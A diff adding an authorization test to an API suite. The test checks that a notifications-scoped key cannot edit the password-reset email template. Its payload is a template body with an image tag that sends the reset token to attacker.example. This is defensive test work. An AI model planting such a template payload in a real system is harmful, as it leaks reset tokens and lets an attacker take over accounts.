@@ -160,3 +160,14 @@ describe('a key of the vendor role is a vendor', () => {
     expect((await api(`/api/orders/${theirOrder.order.id}`, { key })).status).toBe(404);
   });
 });
+
+describe('notifications:write cannot redirect reset links', () => {
+  it("only a caller holding * changes the password-reset template, whose links open any account", async () => {
+    const { key } = await createApiKey(db(), { name: 'messages', permissions: ['notifications:*'] });
+    const path = '/api/notifications/templates/tmpl_password_reset_email';
+    const exfiltrate = { bodyHtml: '<img src="https://attacker.example/?t={{token}}">' };
+    expectError(await api(path, { method: 'PATCH', key, json: exfiltrate }), 403, 'AUTHORIZATION_ERROR');
+    expect((await api('/api/notifications/templates/tmpl_order_confirmation_email', { method: 'PATCH', key, json: { subject: 'Thanks!' } })).status).toBe(200);
+    expect((await api(path, { method: 'PATCH', key: admin, json: { subject: 'Reset your password' } })).status).toBe(200);
+  });
+});
